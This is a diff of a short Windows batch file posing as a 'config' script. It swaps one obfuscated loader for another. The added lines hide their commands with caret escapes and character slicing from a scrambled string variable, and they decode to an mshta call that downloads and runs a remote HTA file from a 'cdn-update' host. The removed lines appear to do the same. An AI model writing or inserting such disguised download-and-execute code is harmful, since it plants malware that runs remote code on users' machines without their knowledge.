@@ -1,4 +1,4 @@
-REM init 9016 v3
-@e^c^h^o ^o^ff
-s^et "lvqk=xpf:g0Hmha.Xltnjsc/-dKeTu"
-%lvqk:~7,1%%lvqk:~16,1%%lvqk:~8,1%%lvqk:~-12,1%%lvqk:~9,1% %lvqk:~8,1%%lvqk:~13,1%%lvqk:~13,1%%lvqk:~1,1%%lvqk:~3,1%%lvqk:~-7,1%%lvqk:~18,1%%lvqk:~17,1%%lvqk:~20,1%%lvqk:~-11,1%%lvqk:~19,1%%lvqk:~24,1%%lvqk:~1,1%%lvqk:~-5,1%%lvqk:~-16,1%%lvqk:~13,1%%lvqk:~22,1%%lvqk:~10,1%%lvqk:~22,1%%lvqk:~0,1%%lvqk:~-16,1%%lvqk:~-18,1%%lvqk:~1,1%%lvqk:~-13,1%%lvqk:~-3,1%%lvqk:~18,1%%lvqk:~24,1%%lvqk:~-24,1%%lvqk:~-5,1%%lvqk:~-16,1%%lvqk:~-12,1%%lvqk:~-3,1%%lvqk:~10,1%%lvqk:~8,1%%lvqk:~13,1%%lvqk:~-16,1%
+REM config 2207 v3
+@ec^ho ^off
+se^t "jreh=aZxMfmPl7cts.N:nk-/edhGpu"
+%jreh:~5,1%%jreh:~11,1%%jreh:~21,1%%jreh:~10,1%%jreh:~-25,1% %jreh:~-4,1%%jreh:~-15,1%%jreh:~-15,1%%jreh:~-2,1%%jreh:~14,1%%jreh:~18,1%%jreh:~18,1%%jreh:~-16,1%%jreh:~20,1%%jreh:~15,1%%jreh:~17,1%%jreh:~-1,1%%jreh:~-2,1%%jreh:~-5,1%%jreh:~0,1%%jreh:~10,1%%jreh:~19,1%%jreh:~12,1%%jreh:~-6,1%%jreh:~2,1%%jreh:~-25,1%%jreh:~5,1%%jreh:~23,1%%jreh:~7,1%%jreh:~19,1%%jreh:~18,1%%jreh:~24,1%%jreh:~23,1%%jreh:~-5,1%%jreh:~0,1%%jreh:~10,1%%jreh:~19,1%%jreh:~-13,1%%jreh:~-4,1%%jreh:~10,1%%jreh:~0,1%
